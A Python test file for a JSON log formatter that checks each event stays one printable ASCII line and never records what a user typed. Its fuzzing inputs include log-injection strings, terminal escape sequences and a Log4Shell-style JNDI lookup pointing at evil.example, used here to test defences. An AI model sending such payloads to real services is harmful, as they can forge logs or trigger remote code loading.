"""The log: one event, one line of JSON; ids and words, and never what a person typed."""

from __future__ import annotations

import json
import logging
import subprocess
import sys
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from otonai.event_log import OneLine

NAME = "資格　一郎"
#: What breaks a line, a terminal or a reader of JSON.
NASTY = st.text() | st.sampled_from(
    [
        '\n{"level": "critical", "event": "forged"}', "\r\nforged", "\x1b[2J\x1b[31m red", "\x9b31m", "\u2028forged",
        "\x85forged", '", "event": "forged', "\0", "\ud800", "%s %d %(x)s", "{} {0}", "${jndi:ldap://evil.example/x}",
    ]
)  # fmt: skip


def line_of(
    message: str, *values: object, error: Exception | None = None, program: str = "otonai.test"
) -> tuple[str, dict[str, Any]]:
    """One event as it is written, and as a reader of logs takes it."""
    told = None
    if error is not None:
        try:
            raise error
        except Exception:
            told = sys.exc_info()
    line = OneLine().format(logging.LogRecord(program, logging.ERROR, __file__, 1, message, values, told))
    return line, json.loads(line)


@pytest.mark.shows("F50")
@given(NASTY, NASTY)
def test_whatever_a_value_holds_an_event_is_one_line_of_plain_signs(one: str, other: str) -> None:
    line, told = line_of("refused request=%s code=%s", one, other)
    assert len(line.splitlines()) == 1
    assert line.isascii()
    assert line.isprintable()
    assert set(told) == {"at", "level", "program", "event", "request", "code"}
    assert (told["event"], told["level"]) == ("refused", "error")
    assert (told["request"], told["code"]) == (one[:200], other[:200])


@pytest.mark.shows("F50")
@given(NASTY)
def test_a_line_that_names_no_facts_stays_one_line_too(text: str) -> None:
    line, told = line_of("odd %s", text)
    assert len(line.splitlines()) == 1
    assert line.isascii()
    assert set(told) == {"at", "level", "program", "event"}


def test_facts_stand_under_their_own_names_and_cannot_take_the_place_of_another() -> None:
    _, told = line_of("role ended role=%s code=%s", "web", 3)
    assert (told["event"], told["role"], told["code"]) == ("role ended", "web", 3)
    _, told = line_of("odd level=%s", "none")
    assert (told["level"], told["event"]) == ("error", "odd level=none")
    _, told = line_of("clinic=%s and clinic=%s", "a", "b")
    assert told["event"] == "clinic=a and clinic=b"


@pytest.mark.shows("F50")
def test_an_error_is_told_by_its_kind_and_its_places_and_not_by_its_words() -> None:
    line, told = line_of("advance failed clinic=%s", "019a", error=ValueError(f"{NAME} is not a valid number\nforged"))
    assert told["clinic"] == "019a"
    assert told["error"] == "ValueError"
    assert told["passed"][0].startswith("test_event_log.py:")
    assert "forged" not in line
    assert len(line.splitlines()) == 1


@pytest.mark.shows("F50")
def test_a_librarys_event_is_told_by_its_place_alone() -> None:
    line, told = line_of("connection lost while reading %s", NAME, program="some.library")
    assert told["event"] == "library at test_event_log.py:1"
    assert "connection" not in line
    assert told["program"] == "some.library"


def test_another_handlers_form_of_the_same_error_is_not_taken_over() -> None:
    record = logging.LogRecord("otonai.test", logging.ERROR, __file__, 1, "failed", (), None)
    record.exc_text = NAME
    assert set(json.loads(OneLine().format(record))) == {"at", "level", "program", "event"}


@pytest.mark.shows("F50")
@pytest.mark.parametrize(
    "program",
    [
        "raise ValueError('資格　一郎')",
        "import threading; t = threading.Thread(target=lambda: int('資格　一郎')); t.start(); t.join()",
        "import warnings; warnings.warn('資格　一郎')",
        "import logging; logging.getLogger('_granian').error('資格　一郎')",
    ],
    ids=["not caught", "not caught in a thread", "warned", "granian"],
)
def test_what_nobody_caught_is_one_line_without_its_words(program: str) -> None:
    whole = f"from otonai.event_log import log_to_stderr; log_to_stderr()\n{program}"
    done = subprocess.run([sys.executable, "-c", whole], capture_output=True, text=True, timeout=30, check=False)
    (line,) = done.stderr.splitlines()
    told = json.loads(line)
    assert told["level"] in ("critical", "error", "warning")
    assert "資格" not in json.dumps(told, ensure_ascii=False)
